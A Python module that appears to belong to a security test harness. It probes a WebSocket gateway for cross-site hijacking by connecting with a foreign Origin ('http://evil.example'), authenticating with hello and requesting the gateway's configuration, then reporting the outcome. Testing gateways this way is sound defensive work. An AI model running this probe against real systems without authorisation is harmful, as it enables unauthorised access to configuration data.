"""(e) Cross-site WebSocket hijacking: an upgrade with a foreign `Origin`, against a gateway whose
auth mode is none (what a web page in the user's browser could do)."""

from __future__ import annotations

import json
from typing import Any

from .rawws import RawWS, UpgradeRefused, frame
from .target import Target


async def attack_foreign_origin(t: Target, origin: str = "http://evil.example") -> dict[str, Any]:
    try:
        ws = await RawWS.open(t.host, t.port, headers={"Origin": origin})
    except UpgradeRefused as exc:
        return {"figure": f"Origin {origin}: HTTP {exc.status} before the upgrade", "status": exc.status,
                "body": exc.json()}
    try:
        res = await ws.hello(t.token)
        if not res.get("ok"):
            return {"figure": f"Origin {origin}: 101, connect refused ({res['error']['code']})", "status": 101}
        scopes = res["payload"]["auth"]["scopes"]
        await ws.send(frame(json.dumps({"type": "req", "id": "g", "method": "config.get"}).encode()))
        while True:
            msg = await ws.recv_json()
            if msg.get("id") == "g":
                break
        got = "config.get answered" if msg.get("ok") else f"config.get refused ({msg['error']['code']})"
        return {"figure": f"Origin {origin}: 101, hello-ok with scopes {scopes}; {got}", "status": 101, "scopes": scopes}
    finally:
        ws.close()
